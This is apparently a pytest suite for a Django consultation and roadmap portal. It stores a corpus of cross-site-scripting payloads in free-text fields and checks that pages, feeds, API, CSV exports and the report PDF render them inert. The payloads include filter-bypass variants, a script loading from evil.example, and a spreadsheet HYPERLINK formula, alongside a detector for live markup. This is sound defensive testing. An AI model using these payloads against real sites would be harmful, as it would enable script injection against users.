"""A corpus of script-injection payloads, stored through the normal services into free-text
fields and read back everywhere they appear: pages, feeds, API and exports. Nothing may
come back as live markup."""

from __future__ import annotations

import datetime as dt
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from freezegun import freeze_time

from agreements import services as agreement_services
from consultations import services as consultation_services
from roadmap.regions import services as region_services
from tests.factories import (
    CONSULTATION_STANDARD,
    AgreementSystemFactory,
    DeliverableFactory,
    ExchangeFactory,
    OutcomeAssessmentFactory,
    PilotFactory,
    ProgrammeFactory,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    '<div style="background:url(javascript:alert(1))">',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext></mtext><mglyph><svg onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script><script>alert(1)//*/</script>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    '<https://x.example/" onmouseover=alert(1)>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "`<script>alert(1)</script>`",
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% debug %}<img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img src=x onerror=alert`1`>",
    "<svg/onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "javascript:alert(1)",
    "'\"--><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '=HYPERLINK("http://evil")',
    "<plaintext><script>alert(1)</script>",
]


class _Dangers(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if tag == "script":
            src, kind = names.get("src") or "", names.get("type") or ""
            if not (src.startswith("/static/") or kind == "application/json"):
                self.found.append(f"<script {attrs}>")
        risky = {"iframe", "object", "embed", "base", "isindex", "xss", "svg", "math"}
        if tag in risky or (tag == "meta" and names.get("http-equiv")):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            url_attr = name in {"href", "src", "action", "data", "background", "formaction"}
            if (
                url_attr
                and value
                and value.strip().lower().startswith(("javascript:", "data:text/html"))
            ):
                self.found.append(f"<{tag} {name}={value}>")


def assert_inert(html: str, where: str) -> None:
    parser = _Dangers()
    parser.feed(html)
    assert parser.found == [], f"{where}: live markup {parser.found[:5]}"


def test_payloads_in_agreements_are_inert_on_pages_feed_api_and_exports(client, programme_manager):
    system = AgreementSystemFactory()
    for i, payload in enumerate(PAYLOADS):
        agreement_services.agreement_create(
            actor=programme_manager,
            code=f"LAS-XSS-{i:03d}",
            title=payload[:250],
            system=system,
            layer="technisch",
            topic="logging",
            plateau="2026-2027",
            text=payload,
        )
    client.force_login(programme_manager)  # drafts are staff-only
    for page in (1, 2, 3):
        assert_inert(
            client.get(reverse("agreements:list"), {"page": page}).content.decode(), "list"
        )
    for i in range(len(PAYLOADS)):
        assert_inert(
            client.get(reverse("agreements:detail", args=[f"LAS-XSS-{i:03d}"])).content.decode(),
            f"detail {i}",
        )
    body = b"".join(
        client.get(reverse("agreements:export", args=["csv"])).streaming_content
    ).decode()
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body  # formulas neutralised
    api = client.get("/api/v1/agreements", {"pageSize": 100})
    assert api["Content-Type"] == "application/json"


def test_payloads_in_comments_are_inert_everywhere(
    client, programme_manager, field_party, organisation_a
):
    with freeze_time("2026-10-01"):
        c = consultation_services.consultation_create(
            **CONSULTATION_STANDARD,
            actor=programme_manager,
            title="XSS",
            slug="xss",
            subject="document",
            introduction=PAYLOADS[0],
            opens_at=dt.datetime(2026, 11, 1, tzinfo=dt.UTC),
            closes_at=dt.datetime(2026, 11, 30, tzinfo=dt.UTC),
            draft=f"## {PAYLOADS[1]}\n{PAYLOADS[2]}",
        )
        c = consultation_services.consultation_schedule(actor=programme_manager, consultation=c)
    section = consultation_services.current_version(c).sections.first()
    with freeze_time("2026-11-10"):
        comments = [
            consultation_services.comment_submit(
                actor=field_party,
                consultation=c,
                organisation=organisation_a,
                text=p,
                may_publish=True,
                section=section,
            )
            for p in PAYLOADS
        ]
    with freeze_time("2026-12-01"):
        consultation_services.answer_comments(
            actor=programme_manager,
            consultation=c,
            comments=comments,
            disposition="noted",
            reason=PAYLOADS[3],
        )
        consultation_services.report_publish(
            actor=programme_manager, consultation=c, summary=PAYLOADS[4]
        )
        for url in (
            reverse("consultations:detail", args=["xss"]),
            reverse("consultations:section", args=["xss", section.pk]),
            reverse("consultations:section", args=["xss", section.pk]) + "?page=2",
            reverse("consultations:report", args=["xss"]),
        ):
            assert_inert(client.get(url).content.decode(), url)
        feed = client.get(reverse("feed-consultations")).content.decode()
        # Atom carries the text escaped: no raw tag from a payload survives.
        assert "<script>alert" not in feed
        assert "<img src=x onerror" not in feed
        client.force_login(field_party)
        assert_inert(client.get(reverse("consultations:mine")).content.decode(), "my comments")


def test_payloads_in_regional_initiatives_are_inert(client, coordinator_x, region_x):
    for i, payload in enumerate(PAYLOADS):
        region_services.initiative_create(
            actor=coordinator_x,
            region=region_x,
            slug=f"xss-{i}",
            title=payload[:250],
            purpose=payload,
            status="running",
            own_builds=payload,
        )
    assert_inert(client.get(reverse("regions:register")).content.decode(), "register")
    for i in range(0, len(PAYLOADS), 7):
        assert_inert(
            client.get(reverse("regions:initiative", args=[f"xss-{i}"])).content.decode(),
            f"initiative {i}",
        )
    body = b"".join(client.get(reverse("regions:export", args=["csv"])).streaming_content).decode()
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body


def test_the_checker_itself_catches_live_markup():
    with pytest.raises(AssertionError):
        assert_inert('<p><img src=x onerror="alert(1)"></p>', "control")
    with pytest.raises(AssertionError):
        assert_inert('<a href=" JavaScript:alert(1)">x</a>', "control")
    with pytest.raises(AssertionError):
        assert_inert("<script>alert(1)</script>", "control")
    assert_inert("<p>&lt;img src=x onerror=alert(1)&gt;</p>", "escaped")
    assert_inert('<script src="/static/js/charts.js" defer></script>', "ours")


def test_payloads_in_the_report_pdf_stay_text(
    programme_manager, field_party, organisation_a, django_capture_on_commit_callbacks, client
):
    """The PDF is laid out from HTML: a payload must arrive as text, never as markup that
    WeasyPrint would follow (an <img> or <link> would make it fetch a URL)."""
    import io

    from pypdf import PdfReader

    with freeze_time("2026-10-01"):
        c = consultation_services.consultation_create(
            **CONSULTATION_STANDARD,
            actor=programme_manager,
            title="XSS-PDF",
            slug="xss-pdf",
            subject="document",
            introduction="x",
            opens_at=dt.datetime(2026, 11, 1, tzinfo=dt.UTC),
            closes_at=dt.datetime(2026, 11, 30, tzinfo=dt.UTC),
            draft="## Een\nTekst",
        )
        c = consultation_services.consultation_schedule(actor=programme_manager, consultation=c)
    section = consultation_services.current_version(c).sections.first()
    probes = ["<img src=x onerror=alert(1)>", "<link rel=stylesheet href=x.css>", PAYLOADS[0]]
    with freeze_time("2026-11-10"):
        comments = [
            consultation_services.comment_submit(
                actor=field_party,
                consultation=c,
                organisation=organisation_a,
                text=f"{p} einde",
                may_publish=True,
                section=section,
            )
            for p in probes
        ]
    with freeze_time("2026-12-01"):
        consultation_services.answer_comments(
            actor=programme_manager,
            consultation=c,
            comments=comments,
            disposition="noted",
            reason=PAYLOADS[1],
        )
        with django_capture_on_commit_callbacks(execute=True):
            consultation_services.report_publish(
                actor=programme_manager, consultation=c, summary="x"
            )
        response = client.get(reverse("consultations:report-pdf", args=["xss-pdf"]))
    body = b"".join(response.streaming_content)
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(body)).pages)
    compact = " ".join(text.split())
    for probe in probes:
        assert " ".join(f"{probe} einde".split()) in compact, probe  # printed, not obeyed


def test_payloads_in_roadmap_search_dashboards_impact_and_notifications_are_inert(
    client, field_party, programme_manager
):
    from portal.notifications.models import Subscription
    from tests.factories import AgreementFactory

    agreement = AgreementFactory(code="LAS-XSS-IMP", title="Doelwit " + PAYLOADS[0])
    day = dt.date(2026, 6, 1)
    for i, payload in enumerate(PAYLOADS):
        exchange = ExchangeFactory(
            number=500 + i,
            title=f"zebra {payload}"[:250],
            care_domain=payload[:120],
            description=payload,
        )
        exchange.agreements.add(agreement)
        Subscription.objects.create(user=field_party, target=exchange)
        exchange.save()  # a notification whose label is the payload
        if i % 5 == 0:
            programme = ProgrammeFactory(
                name=f"zebra {payload}"[:200], slug=f"xss-{i}", goal=payload
            )
            DeliverableFactory(
                programme=programme, title=payload[:250], start=day, due=day, original_due=day
            )
            pilot = PilotFactory(
                title=f"zebra {payload}"[:250], slug=f"xss-p{i}", kind="pilot", summary=payload
            )
            pilot.agreements.add(agreement)
            OutcomeAssessmentFactory(
                pilot=pilot,
                technical_feasibility=3,
                technical_feasibility_explanation=payload,
                user_experience=3,
                user_experience_explanation=payload,
                scalability=3,
                scalability_explanation=payload,
                work_process_impact=3,
                work_process_impact_explanation=payload,
                assessed_on=day,
            )
    for page in (1, 2, 3):
        assert_inert(
            client.get(reverse("search:results"), {"q": "zebra", "page": page}).content.decode(),
            f"search page {page}",
        )
    assert_inert(client.get(reverse("dashboards:index")).content.decode(), "dashboards")
    assert_inert(
        client.get(reverse("dashboards:chart", args=["pilot-scores"])).content.decode(),
        "dashboard chart",
    )
    assert_inert(
        client.get(reverse("dashboards:impact-agreement", args=["LAS-XSS-IMP"])).content.decode(),
        "impact",
    )
    assert_inert(client.get(reverse("wegiz:agenda")).content.decode(), "agenda")
    assert_inert(client.get(reverse("portfolio:pilots")).content.decode(), "pilots")
    body = b"".join(
        client.get(reverse("dashboards:csv", args=["pilot-scores"])).streaming_content
    ).decode()
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body
    client.force_login(field_party)
    for page in (1, 2, 3):
        assert_inert(
            client.get(reverse("notifications:inbox"), {"page": page}).content.decode(),
            f"notifications page {page}",
        )
    assert_inert(client.get(reverse("notifications:settings")).content.decode(), "following")
